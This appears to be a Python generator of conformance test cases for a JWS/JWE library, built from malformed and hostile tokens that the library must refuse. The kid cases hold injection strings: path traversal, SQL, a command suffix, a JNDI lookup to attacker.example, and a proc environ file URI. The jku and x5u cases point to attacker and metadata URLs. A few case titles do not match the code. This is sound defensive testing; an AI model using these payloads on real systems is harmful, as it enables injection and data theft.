"""Tokens that must not be read: JSON, base64url, parts, headers, one form passed off as another."""

import json

from cases import Family, Repeat
from jose import Jwe, b64, drawn, ecdsa, jwk, jws, public, signing_input, text, unb64

PAYLOAD = b"payload"
PLAINTEXT = b"content"
KW = "ECDH-ES+A256KW"
HEADER = '{"alg":"ES256","kid":"es256"}'
PATHS = [
    ("path", "a path out of the folder", "../../../../dev/null"), ("sql", "SQL", "x' UNION SELECT 'secret' -- "),
    ("pkcs11-uri", "a PKCS #11 URI", "pkcs11:object=es256;type=private?module-path=/tmp/x.so"), ("file-uri", "a file URI", "file:///proc/self/environ"),
    ("command", "a command", "es256|sleep 10"), ("template", "a template", "{{7*7}}${jndi:ldap://attacker.example/x}"),
    ("windows-path", "a path of Windows", "..\\..\\windows\\win.ini"), ("format", "format directives", "%s%n%x{0}{}"),
]
CONTROLS = [
    ("nul", "our kid, a NUL and more", "\0.pem"), ("line-end", "our kid and a line end", "\n"), ("carriage-return", "our kid and a forged line of a log", "\r\nINFO accepted"),
    ("escape", "our kid and an escape sequence of a terminal", "\x1b[2J"), ("delete", "our kid and DEL", "\x7f"),
    ("blank", "our kid and a blank", " "), ("zero-width", "our kid and a zero-width space", "\u200b"), ("bidi", "our kid and a right-to-left override", "\u202e"),
]


def es256(header=HEADER, payload=PAYLOAD):
    return jws(header, payload, ecdsa("es256"))


def kw(**given):
    return Jwe("p256-kw", KW, **given)


def kw_header():
    return text(kw().members)


def es_header(**members):
    return text({"alg": "ES256", "kid": "es256"} | members)


def verify(name, source, control=None, keys=("es256",), policy="all"):
    family = Family(name, source, "verify", keys, policy)
    family.accepted("control", "a token with which nothing is wrong", control or es256(), PAYLOAD)
    return family


def decrypt(name, source, keys=("p256-kw",), policy="all"):
    family = Family(name, source, "decrypt", keys, policy)
    family.accepted("control", "a token with which nothing is wrong", str(kw()), PLAINTEXT)
    return family


def json_forms():
    """Each in the header of a JWS and of a JWE: one parser reads both, and a test says so."""
    forms = [
        ("trailing-comma", "a comma before the end", lambda it: it[:-1] + ",}"), ("comment", "a comment", lambda it: it[:-1] + "/* */}"),
        ("single-quotes", "single quotes", lambda it: it.replace('"', "'")), ("no-quotes", "names without quotes", lambda it: it.replace('"alg"', "alg")),
        ("object-twice", "two objects", lambda it: it + it), ("garbage-after", "a letter after the object", lambda it: it + "x"),
        ("array", "the object in an array", lambda it: f"[{it}]"), ("text", "the object in a text", json.dumps),
    ]
    signed, sealed = verify("json-syntax", "RFC 8259 section 2"), decrypt("json-syntax-jwe", "RFC 8259 section 2")
    for name, title, change in forms:
        signed.refused(name, f"the header has {title}", es256(change(HEADER)), "malformed")
        sealed.refused(name, f"the header has {title}", str(kw(header=change)), "malformed")

    signed = verify("json-white-space", ["RFC 8259 section 2", "RFC 7515 appendix A.1"])
    signed.accepted("control-white-space", "white space that JSON allows", es256('{"alg":"ES256",\r\n "kid":"es256"}'), PAYLOAD)
    for name, title, header in [
        ("bom", "a BOM before the header", "\ufeff" + HEADER), ("form-feed", "a form feed", HEADER.replace(",", ",\f")), ("no-break", "a no-break space", HEADER.replace(",", ",\u00a0")),
        ("nul-after", "a NUL after the header", HEADER + "\0"), ("nul-before", "a NUL before the header", "\0" + HEADER), ("vertical-tab", "a vertical tab", HEADER.replace(",", ",\v")),
        ("line-separator", "a line separator", HEADER.replace(",", ",\u2028")), ("raw-line-end", "a line end in a text", HEADER.replace("es256", "es\n256")),
    ]:
        signed.refused(name, title, es256(header), "malformed")

    signed = verify("json-values", ["RFC 8259 section 3", "RFC 7515 section 4"])
    for name, title, header in [
        ("empty", "nothing", ""), ("null", "null", "null"), ("number", "a number", "1"), ("true", "true", "true"), ("empty-object", "an object of nothing", "{}"), ("empty-array", "an array of nothing", "[]"),
        ("open", "an object that is not closed", HEADER[:-1]), ("text", "a text", '"ES256"'),
    ]:
        token = es256(header) if header else "." + es256().split(".", 1)[1]
        signed.refused(name, f"the header is {title}", token, "malformed")

    signed = verify("json-numbers", ["RFC 8259 section 6", "RFC 7493 section 2.2"])
    for name, title, value in [
        ("overflow", "1e999, which no double holds", "1e999"), ("nan", "NaN", "NaN"), ("infinity", "Infinity", "-Infinity"), ("leading-zero", "a leading zero", "01"),
        ("plus", "a plus sign", "+1"), ("hex", "hexadecimal", "0x10"), ("no-fraction", "a point and nothing after it", "1."), ("minus", "a minus sign alone", "-"),
    ]:
        signed.refused(name, f"a member with {title}", es256(HEADER[:-1] + f',"x":{value}}}'), "malformed")

    signed = verify("json-unicode", ["RFC 8259 sections 7 and 8", "RFC 7493 section 2.1"])
    for name, title, header in [
        ("lone-high", "a high surrogate alone", HEADER[:-1] + ',"x":"\\ud800"}'), ("lone-low", "a low surrogate alone", HEADER[:-1] + ',"x":"\\udc00"}'), ("reversed", "a surrogate pair the wrong way round", HEADER[:-1] + ',"x":"\\udc00\\ud800"}'),
        ("cut-escape", "an escape that is cut", HEADER[:-1] + ',"x":"\\u00"}'), ("not-utf-8", "a byte that is not UTF-8", HEADER[:-1].encode() + b',"x":"\xff"}'), ("overlong", "a quote in two bytes", HEADER.encode().replace(b'"kid"', b'\xc0\xa2kid"')),
        ("utf-16", "UTF-16", HEADER.encode("utf-16")), ("cesu-8", "a surrogate in three bytes", HEADER[:-1].encode() + b',"x":"\xed\xa0\x80"}'),
    ]:
        signed.refused(name, f"the header has {title}", es256(header), "malformed")

    signed = verify("duplicate-members", ["RFC 7515 section 4", "RFC 8725 section 2.6"])
    nested = HEADER[:-1] + ',"x":%s}'
    for name, title, header in [
        ("alg-same", "alg twice, with the same value", HEADER.replace("{", '{"alg":"ES256",')), ("alg-none-first", "alg none, then ES256", HEADER.replace("{", '{"alg":"none",')), ("alg-none-last", "alg ES256, then none", HEADER[:-1] + ',"alg":"none"}'),
        ("kid", "kid twice", HEADER[:-1] + ',"kid":"other"}'), ("escaped", "alg once more, escaped", HEADER[:-1] + ',"\\u0061lg":"none"}'), ("nested", "a member twice in an object", nested % '{"a":1,"a":2}'),
        ("in-array", "a member twice in an object in an array", nested % '[{"a":1,"a":1}]'), ("unknown", "an unknown member twice", HEADER[:-1] + ',"x":1,"x":1}'),
    ]:
        signed.refused(name, title, es256(header), "malformed")
    sealed = decrypt("duplicate-members-jwe", ["RFC 7516 section 4", "RFC 8725 section 2.6"])
    for name, title, change in [
        ("alg", "alg twice", lambda it: it.replace("{", '{"alg":"dir",', 1)), ("enc", "enc twice", lambda it: it[:-1] + ',"enc":"A128GCM"}'), ("kid", "kid twice", lambda it: it[:-1] + ',"kid":"other"}'),
        ("epk", "epk twice", lambda it: it[:-1] + ',"epk":{}}'), ("epk-x", "x twice in epk", lambda it: it.replace('"x":', '"x":"AA","x":', 1)), ("escaped", "enc once more, escaped", lambda it: it[:-1] + ',"e\\u006ec":"A128GCM"}'),
    ]:
        sealed.refused(name, title, str(kw(header=change)), "malformed")

    deep = lambda count, left, right: HEADER[:-1] + ',"x":' + left * count + "1" + right * count + "}"
    signed = verify("json-depth", ["RFC 8259 section 9", "RFC 8725 section 2.6"])
    signed.accepted("control-deep", "30 arrays in each other", es256(deep(30, "[", "]")), PAYLOAD)
    for name, title, header in [
        ("arrays-33", "33 arrays", deep(33, "[", "]")), ("arrays-1000", "1,000 arrays", deep(1000, "[", "]")), ("objects-1000", "1,000 objects", deep(1000, '{"a":', "}")),
        ("mixed", "200 objects in arrays", deep(200, '[{"a":', "}]")), ("open", "5,000 arrays that are not closed", HEADER[:-1] + ',"x":' + "[" * 5000),
    ]:
        signed.refused(name, f"{title} in each other", es256(header), "malformed")
    rest = es256().split(".", 1)[1]
    signed.refused("million", "a million arrays in each other", [Repeat(b64("[[["), 333_333), ".", rest], "malformed")


def sizes():
    signed = verify("header-size", ["RFC 8725 section 2.6", "CWE-400"])
    long = lambda length: es256(HEADER[:-1] + f',"x":"{"x" * length}"}}')
    signed.accepted("control-kilobyte", "a member of 8 KiB", long(8192), PAYLOAD)
    rest = es256().split(".", 1)[1]
    start, end = b64(HEADER[:-1] + ',"xx":"'), b64('x"}')
    assert len(HEADER[:-1] + ',"xx":"') % 3 == 2 or True
    signed.refused("over-16-kib", "a header of 16 KiB and more", long(16 * 1024), "malformed")
    signed.refused("members", "2,000 members", es256(HEADER[:-1] + "".join(f',"m{i}":{i}' for i in range(2000)) + "}"), "malformed")
    signed.refused("megabytes", "a header of 3 MiB", [Repeat(b64("xxx"), 1 << 20), ".", rest], "malformed")
    signed.refused("over-any-limit", "a token of 33 MiB", [b64(HEADER), ".", Repeat("AAAA", 33 << 18), ".", rest.split(".")[1]], "malformed")
    signed.refused("digits", "a number of 20,000 digits", es256(HEADER[:-1] + f',"x":{"1" * 20_000}}}'), "malformed")
    signed.refused("crit", "3,000 names in crit", es256(HEADER[:-1] + ',"crit":[' + ",".join(['"x"'] * 5000) + "]}"), "malformed")
    sealed = decrypt("header-size-jwe", ["RFC 8725 section 2.6", "CWE-400"])
    member = lambda length: lambda it: it[:-1] + f',"x":"{"x" * length}"}}'
    sealed.refused("over-16-kib", "a header of 16 KiB and more", str(kw(header=member(16 * 1024))), "malformed")
    sealed.refused("apu", "apu of 12 KiB", str(Jwe("p256-kw", KW, apu=bytes(12 * 1024))), "malformed")
    sealed.refused("over-any-limit", "a ciphertext of 33 MiB", [kw().protected, ".", b64(kw().ek), ".", b64(kw().iv), ".", Repeat("AAAA", 33 << 18), ".", b64(kw().tag)], "malformed")
    sealed.refused("megabytes", "a header of 3 MiB", [Repeat(b64("xxx"), 1 << 20), ".", kw().compact().split(".", 1)[1]], "malformed")


def encoding():
    def changed(token, part, change):
        parts = token.split(".")
        parts[part] = change(parts[part])
        return ".".join(parts)

    # In each, the part means the same octets to a decoder that is not strict.
    signed = verify("base64url", ["RFC 7515 section 2", "RFC 4648 section 3.5"])
    token, sealed_token = es256(), str(kw())
    bits = lambda part: part[:-1] + chr(ord(part[-1]) + 1)
    signed_as_is = lambda data: f"{data}.{b64(ecdsa('es256')(data.encode()))}"
    header, payload, _ = token.split(".")
    assert all(len(part) % 4 for part in token.split(".") + sealed_token.split(".")[1:2])
    for name, title, value in [
        ("header-bits", "bits that carry nothing in the header, signed with them", signed_as_is(f"{bits(header)}.{payload}")), ("payload-bits", "bits that carry nothing in the payload, signed with them", signed_as_is(f"{header}.{bits(payload)}")), ("signature-bits", "bits that carry nothing in the signature", changed(token, 2, bits)),
        ("padded", "padding", changed(token, 2, lambda it: it + "==")), ("line-end", "a line end in the signature", changed(token, 2, lambda it: it[:40] + "\n" + it[40:])), ("blank", "a blank in the payload, signed with it", signed_as_is(f"{header}.{payload[:4]} {payload[4:]}")),
        ("one-letter", "one letter too many", changed(token, 2, lambda it: it + "AAA")), ("star", "a letter of no alphabet", changed(token, 2, lambda it: it[:9] + "*" + it[10:])),
    ]:
        signed.refused(name, title, value, "malformed")
    standard = next(t for t in (es256(payload=PAYLOAD + bytes([i])) for i in range(99)) if {"-", "_"} & set(t.split(".")[2]))
    signed.refused("standard-alphabet", "the alphabet of base64", changed(standard, 2, lambda it: it.replace("-", "+").replace("_", "/")), "malformed")
    sealed = decrypt("base64url-jwe", ["RFC 7516 section 2", "RFC 4648 section 3.5"])
    for name, title, value in [
        ("key-bits", "bits that carry nothing in the encrypted key", changed(sealed_token, 1, bits)), ("tag-bits", "bits that carry nothing in the tag", changed(sealed_token, 4, bits)), ("key-padded", "padding of the encrypted key", changed(sealed_token, 1, lambda it: it + "==")),
        ("iv-blank", "a blank in the IV", changed(sealed_token, 2, lambda it: it + " ")), ("ciphertext-bits", "bits that carry nothing in the ciphertext", changed(sealed_token, 3, bits)), ("tag-line-end", "a line end in the tag", changed(sealed_token, 4, lambda it: it[:8] + "\r\n" + it[8:])),
        ("iv-standard", "the alphabet of base64 in the IV", changed(sealed_token, 2, lambda it: "+/" + it[2:])), ("tag-letter", "one letter of a tag", changed(sealed_token, 4, lambda it: "A")),
    ]:
        sealed.refused(name, title, value, "malformed")

    family = verify("white-space-and-wrappers", ["RFC 7515 section 7.1", "CWE-20"])
    for name, title, value in [
        ("blank-before", "a blank before the token", " " + token), ("line-end-after", "a line end after the token", token + "\n"), ("bom", "a BOM before the token", "\ufeff" + token), ("nul", "a NUL after the token", token + "\0"),
        ("bearer", "the word Bearer before it", "Bearer " + token), ("quoted", "the token in quotes", f'"{token}"'), ("percent", "percent-encoded dots", token.replace(".", "%2E")), ("folded", "a line end after each dot", token.replace(".", ".\n")),
    ]:
        family.refused(name, title, value, "malformed")
    family = decrypt("look-alikes", ["Unicode Technical Report 36", "CWE-1007"])
    for name, title, value in [
        ("full-width-dot", "full-width dots", sealed_token.replace(".", "\uff0e")), ("one-dot-leader", "one dot leaders", sealed_token.replace(".", "\u2024")), ("zero-width", "a zero-width space after the header", sealed_token.replace(".", "\u200b.", 1)),
        ("cyrillic", "a Cyrillic letter in the tag", sealed_token[:-1] + "\u0410"), ("soft-hyphen", "a soft hyphen in the header", sealed_token[:5] + "\u00ad" + sealed_token[5:]), ("not-utf-8", "a byte that is not UTF-8", sealed_token.encode() + b"\xff"),
        ("utf-16", "the token in UTF-16", sealed_token.encode("utf-16-le")), ("bom", "a BOM before the token", "\ufeff" + sealed_token),
    ]:
        family.refused(name, title, value, "malformed")


def parts():
    token, sealed_token = es256(), str(kw())
    header, payload, signature = token.split(".")
    family = verify("number-of-parts", "RFC 7515 section 7.1")
    for name, title, value in [
        ("one", "one part", header), ("two", "two parts", f"{header}.{payload}"), ("four", "four parts", token + ".AAAA"), ("empty-fourth", "a dot after the signature", token + "."), ("six", "six parts", token + "." + token),
        ("empty", "nothing", ""), ("dots", "two dots", ".."), ("dot-before", "a dot before the token", "." + token),
    ]:
        family.refused(name, title, value, "malformed")
    family = decrypt("number-of-parts-jwe", "RFC 7516 section 7.1")
    four = sealed_token.rsplit(".", 1)[0]
    for name, title, value in [
        ("one", "one part", sealed_token.split(".")[0]), ("three", "three parts", ".".join(sealed_token.split(".")[:3])), ("four", "four parts", four), ("six", "six parts", sealed_token + ".AAAA"), ("empty-sixth", "a dot after the tag", sealed_token + "."),
        ("dots", "four dots", "...."), ("no-header", "no header", "." + sealed_token.split(".", 1)[1]), ("twice", "the token twice", f"{sealed_token}.{sealed_token}"),
    ]:
        family.refused(name, title, value, "malformed")
    family = verify("dot-flood", ["CVE-2025-27144", "CWE-400"])
    family.refused("dots", "a million dots", [Repeat(".", 1_000_000)], "malformed")
    family.refused("after-token", "a token and a million dots", [token, Repeat(".", 1_000_000)], "malformed")
    family.refused("parts", "a million parts", [Repeat("AAAA.", 1_000_000)], "malformed")
    family.refused("spaces", "a token and a million blanks", [token, Repeat(" ", 1_000_000)], "malformed")
    family.refused("jwe", "a JWE and a million dots", [sealed_token, Repeat(".", 1_000_000)], "malformed", operation="decrypt", keys=["p256-kw"])
    family.accepted("control-jwe", "the JWE without them", sealed_token, PLAINTEXT, operation="decrypt", keys=["p256-kw"])

    empties = decrypt("empty-parts", ["RFC 7516 section 5.2", "RFC 7518 section 5.3"])
    for name, title, given in [("key", "no encrypted key", {"ek": b""}), ("iv", "no IV", {"iv": b""}), ("tag", "no tag", {"tag": b""}), ("ciphertext", "no ciphertext, with the tag of another", {"ciphertext": b""}),
                               ("all", "nothing but the header", {"ek": b"", "iv": b"", "ciphertext": b"", "tag": b""})]:
        empties.refused(name, title, kw().compact(**given), "decryption_failed", True)
    empties.accepted("control-empty", "an empty content with its own tag", str(kw(plaintext=b"")), b"")


def forms():
    token, sealed_token = es256(), str(kw())
    source = ["RFC 8725 section 2.10", "RFC 7516 section 9", "CVE-2023-51774"]
    family = Family("sign-encrypt-confusion", source, "verify", ["es256", "rsa-any"])
    family.accepted("control", "a JWS", token, PAYLOAD)
    family.refused("jwe", "a JWE", sealed_token, "malformed")
    family.refused("enc", "a JWS with enc", es256(es_header(enc="A256GCM")), "policy")
    for name, alg in [("oaep", "RSA-OAEP"), ("ecdh", "ECDH-ES"), ("dir", "dir"), ("a128kw", "A128KW"), ("enc", "A128GCM")]:
        family.refused(f"alg-{name}", f"a JWS whose alg is {alg}", es256(es_header(alg=alg)), "policy")
    family.refused("rsa-dir", "alg dir and enc, signed", es256(es_header(alg="dir", enc="A256GCM")), "policy")
    family = Family("encrypt-sign-confusion", source, "decrypt", ["p256-kw", "rsa-oaep"])
    family.accepted("control", "a JWE", sealed_token, PLAINTEXT)
    family.refused("jws", "a JWS", token, "malformed")
    family.refused("jws-five", "a JWS with two empty parts", f"{token}..", "policy malformed")
    for alg in ["ES256", "RS256", "HS256", "EdDSA", "none"]:
        family.refused(f"alg-{alg.lower()}", f"a JWE whose alg is {alg}", str(kw(header={"alg": alg})), "policy")
    family.refused("payload", "a JWE whose content is in the clear", f"{kw().protected}...{b64(PLAINTEXT)}.", "decryption_failed", True)

    header, payload, signature = token.split(".")
    flattened = {"protected": header, "payload": payload, "signature": signature}
    names = ("protected", "encrypted_key", "iv", "ciphertext", "tag")
    encrypted = dict(zip(names, sealed_token.split("."), strict=True))
    family = Family("polyglot", ["RFC 7516 section 9", "RFC 7515 section 7.2.2"], "verify", ["es256"])
    family.accepted("control", "a compact JWS", token, PAYLOAD)
    for name, title, value in [
        ("both-forms", "an object that is a JWS and a JWE", text(flattened | encrypted)), ("compact-in-json", "a compact token as the payload member and no more", text({"payload": token})), ("json-then-compact", "an object and a compact token", text(flattened) + token),
        ("compact-then-json", "a compact token and an object", token + text(flattened)), ("jws-and-jwe", "a JWS and a JWE, a dot between", f"{token}.{sealed_token}"), ("array", "an array of tokens", text([token, token])),
        ("json-text", "a compact token as a JSON text", text(token)),
    ]:
        family.refused(name, title, value, "malformed")
    family.refused("both-as-jwe", "an object that is a JWS and a JWE, to decrypt", text(flattened | encrypted), "malformed", operation="decrypt", keys=["p256-kw"])
    family.accepted("control-jwe", "a compact JWE", sealed_token, PLAINTEXT, operation="decrypt", keys=["p256-kw"])


def members():
    family = verify("alg-value-types", "RFC 7515 section 4.1.1")
    for name, title, value in [("null", "null", None), ("number", "a number", 256), ("true", "true", True), ("array", "an array", ["ES256"]), ("two", "an array of two", ["none", "ES256"]), ("object", "an object", {"alg": "ES256"}), ("empty-array", "an array of nothing", [])]:
        family.refused(name, f"alg is {title}", es256(es_header(alg=value)), "malformed")
    family = verify("member-types", "RFC 7515 section 4.1")
    for name, value in [("kid", 1), ("kid", None), ("kid", ["es256"]), ("typ", True), ("typ", ["JWT"]), ("cty", 1), ("cty", {}), ("zip", False)]:
        kind = {int: "number", type(None): "null", list: "array", bool: "boolean", dict: "object"}[type(value)]
        family.refused(f"{name}-{kind}", f"{name} is of the type {kind}", es256(es_header(**{name: value})), "malformed policy")
    family = decrypt("member-types-jwe", "RFC 7516 section 4.1")
    for name, value in [("alg", None), ("alg", ["ECDH-ES"]), ("enc", 256), ("enc", ["A256GCM"]), ("kid", 1), ("kid", {}), ("typ", False), ("apv", 1)]:
        kind = {int: "number", type(None): "null", list: "array", bool: "boolean", dict: "object"}[type(value)]
        family.refused(f"{name}-{kind}", f"{name} is of the type {kind}", str(kw(header=lambda it: text(json.loads(it) | {name: value}))), "malformed")

    source = ["RFC 7515 section 4.1.11", "RFC 8725 section 2.7"]
    crits = [
        ("unknown", "an extension that nobody knows", {"x": 1, "crit": ["x"]}), ("exp", "exp, the RFC's example", {"exp": 1363284000, "crit": ["exp"]}), ("empty", "nothing", {"crit": []}), ("specified", "alg, which the RFC defines", {"crit": ["alg"]}),
        ("absent", "a member that is absent", {"crit": ["x"]}), ("twice", "a name twice", {"x": 1, "crit": ["x", "x"]}), ("text", "a text", {"x": 1, "crit": "x"}), ("number", "a number", {"crit": [1]}),
    ]
    signed, sealed = verify("crit", source), decrypt("crit-jwe", ["RFC 7516 section 4.1.13", "RFC 8725 section 2.7"])
    for name, title, header in crits:
        signed.refused(name, f"crit names {title}", es256(es_header(**header)), "policy malformed")
        sealed.refused(name, f"crit names {title}", str(kw(header=header)), "policy malformed")
    signed = verify("crit-more", source)
    for name, title, header in [
        ("null", "crit is null", {"crit": None}), ("object", "crit is an object", {"crit": {"x": 1}}), ("nested", "an array in crit", {"crit": [["x"]], "x": 1}), ("empty-name", "an empty name, present", {"crit": [""], "": 1}),
        ("crit", "crit names itself", {"crit": ["crit"]}), ("prototype", "the name __proto__", {"crit": ["__proto__"]}), ("constructor", "the name constructor, present", {"crit": ["constructor"], "constructor": 1}), ("case", "a name in another case", {"crit": ["X"], "x": 1}),
    ]:
        signed.refused(name, title, es256(es_header(**header)), "policy malformed")

    source = ["RFC 8725 section 3.10", "RFC 7515 section 4.1.3", "CVE-2018-0114"]
    stranger = lambda **header: jws(text({"alg": "ES256"} | header), PAYLOAD, ecdsa("stranger"))
    codes = "policy signature_invalid key_not_found malformed"
    family = verify("header-borne-jwk", source)
    family.accepted("control-ignored", "a jwk is no more than a member that is not looked at", es256(es_header(jwk=public("stranger"))), PAYLOAD)
    for name, title, policy, header in [
        ("jwk", "a jwk that made the signature", "all", {"jwk": public("stranger")}), ("our-kid", "the same, and our kid", "all", {"jwk": public("stranger"), "kid": "es256"}), ("jwk-with-our-kid", "a jwk that has our kid itself", "all", {"jwk": public("stranger") | {"kid": "es256"}, "kid": "es256"}),
        ("private", "a private jwk", "all", {"jwk": jwk("stranger"), "kid": "es256"}), ("oct", "a symmetric jwk", "all", {"jwk": {"kty": "oct", "k": "AAAA"}, "kid": "es256"}), ("strict", "a jwk under strict", "strict", {"jwk": public("stranger"), "kid": "es256"}),
    ]:
        family.refused(name, title, stranger(**header), codes, policy=policy)
    family.refused("strict-good", "a jwk under strict, with a signature of ours", es256(es_header(jwk=public("es256"))), "policy", policy="strict")
    for name, member, source in [("header-borne-jku", "jku", "RFC 7515 section 4.1.2"), ("header-borne-x5u", "x5u", "RFC 7515 section 4.1.5")]:
        family = verify(name, ["RFC 8725 section 3.10", source])
        for case, title, value, policy in [
            ("http", "an http URL", "http://127.0.0.1:9/keys", "all"), ("https", "an https URL", "https://attacker.example/keys", "all"), ("file", "a file", "file:///dev/zero", "all"), ("data", "a data URL", "data:application/json,{}", "all"),
            ("metadata", "the address of a cloud's metadata", "http://169.254.169.254/latest/meta-data/", "all"), ("strict", "a URL under strict", "https://attacker.example/keys", "strict"),
        ]:
            family.refused(case, f"{member} with {title}, signed by its key", stranger(kid="es256", **{member: value}), codes, policy=policy)
    family = verify("header-borne-x5c", ["RFC 8725 section 3.10", "RFC 7515 section 4.1.6", "RFC 7515 section 4.1.7"])
    chain = certificate()
    for name, title, policy, header in [
        ("self-signed", "a self-signed certificate that made the signature", "all", {"x5c": [chain]}), ("our-kid", "the same, and our kid", "all", {"x5c": [chain], "kid": "es256"}), ("garbage", "no certificate", "all", {"x5c": ["AAAA"], "kid": "es256"}), ("text", "a text", "all", {"x5c": chain, "kid": "es256"}),
        ("strict", "a certificate under strict", "strict", {"x5c": [chain], "kid": "es256"}), ("x5t", "the thumbprint of a certificate and no kid", "all", {"x5t": "AAAA"}), ("x5t-s256", "a thumbprint and our kid", "all", {"x5t#S256": b64(drawn("x5t", 32)), "kid": "es256"}),
    ]:
        family.refused(name, title, stranger(**header), codes, policy=policy)


def certificate():
    """A self-signed certificate of the stranger's, in base64. Its signature is deterministic."""
    import base64
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.serialization import Encoding

    from jose import number

    key = ec.derive_private_key(number(jwk("stranger")["d"]), ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "issuer.example")])
    builder = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()).serial_number(1)
    builder = builder.not_valid_before(datetime.datetime(2020, 1, 1)).not_valid_after(datetime.datetime(2100, 1, 1))
    made = builder.sign(key, hashes.SHA256(), ecdsa_deterministic=True)
    return base64.b64encode(made.public_bytes(Encoding.DER)).decode()


def kids():
    source = ["RFC 8725 section 3.10", "RFC 7515 section 4.1.4"]
    signed, sealed = verify("kid-injection", source), decrypt("kid-injection-jwe", source)
    for name, title, kid in PATHS:
        signed.refused(name, f"kid is {title}", es256(es_header(kid=kid)), "key_not_found")
        sealed.refused(name, f"kid is {title}", str(kw(header={"kid": kid})), "key_not_found")
    signed, sealed = verify("kid-characters", source), decrypt("kid-characters-jwe", source)
    for name, title, suffix in CONTROLS:
        signed.refused(name, f"kid is {title}", es256(es_header(kid="es256" + suffix)), "key_not_found malformed")
        sealed.refused(name, f"kid is {title}", str(kw(header={"kid": "p256-kw" + suffix})), "key_not_found malformed")
    family = verify("kid-confusion", ["RFC 7515 section 4.1.4", "RFC 7517 section 4.5"], keys=["es256", "ed25519", "rsa-any"])
    stranger = lambda **header: jws(text({"alg": "ES256"} | header), PAYLOAD, ecdsa("stranger"))
    family.accepted("control-none", "no kid: the keys that fit are tried", es256('{"alg":"ES256"}'), PAYLOAD)
    family.refused("of-another", "the kid of another of the trusted keys", es256(es_header(kid="ed25519")), "policy")
    family.refused("stranger", "a stranger with our kid", stranger(kid="es256"), "signature_invalid")
    family.refused("stranger-none", "a stranger without kid", stranger(), "signature_invalid")
    family.refused("stranger-own", "a stranger with a kid of its own", stranger(kid="stranger"), "key_not_found")
    family.refused("empty", "an empty kid", es256(es_header(kid="")), "key_not_found malformed")
    family.refused("long", "a kid of 300 bytes", es256(es_header(kid="k" * 300)), "malformed")
    family.refused("huge", "a kid of 12 KiB", es256(es_header(kid="k" * 12_288)), "malformed")
    family.refused("case", "our kid in upper case", es256(es_header(kid="ES256")), "key_not_found")

    family = verify("strict-refuses-signatures", ["RFC 8725 section 3.2", "requirements of the profile strict"], keys=["es256", "es384", "es512", "rsa-any"], policy="strict")
    from jose import digest_info, pkcs1, pss
    token = lambda alg, key, sign: jws(text({"alg": alg, "kid": key}), PAYLOAD, sign)
    info = lambda name: lambda message: digest_info(name, message)
    for name, alg, key, sign in [
        ("rs256", "RS256", "rsa-any", pkcs1("rsa-any")), ("rs384", "RS384", "rsa-any", pkcs1("rsa-any", info("sha384"))), ("rs512", "RS512", "rsa-any", pkcs1("rsa-any", info("sha512"))), ("ps384", "PS384", "rsa-any", pss("rsa-any", "sha384", 48)),
        ("es384", "ES384", "es384", ecdsa("es384")), ("es512", "ES512", "es512", ecdsa("es512")), ("ps256", "PS256", "rsa-any", pss("rsa-any")),
    ]:
        title = "PS256 with an RSA key of 2048 bits under strict" if name == "ps256" else f"{alg} under strict"
        family.refused(name, title, token(alg, key, sign), "policy")

    family = verify("unencoded-payload", ["RFC 7797 section 6", "RFC 7797 section 7"])
    raw = lambda header, payload: f"{b64(header)}.{payload}.{b64(ecdsa('es256')(f'{b64(header)}.{payload}'.encode()))}"
    b64_false = es_header(b64=False, crit=["b64"])
    family.refused("not-critical", "b64 false, and crit does not say so", raw(es_header(b64=False), b64(PAYLOAD)), "policy malformed")
    family.refused("dots", "b64 false and a payload with dots", raw(b64_false, "a.b.c"), "malformed")
    family.refused("crit-only", "crit names b64, which is absent", es256(es_header(crit=["b64"])), "malformed")
    family.refused("text", "b64 is the text false", es256(es_header(b64="false", crit=["b64"])), "policy malformed")
    family.refused("null", "b64 is null", es256(es_header(b64=None, crit=["b64"])), "policy malformed")
    family.refused("zero", "b64 is 0", es256(es_header(b64=0, crit=["b64"])), "policy malformed")
    family.refused("true-not-critical", "b64 text in upper case", es256(es_header(B64=False, crit=["b64"])), "malformed")


def all_cases():
    json_forms()
    sizes()
    encoding()
    parts()
    forms()
    members()
    kids()
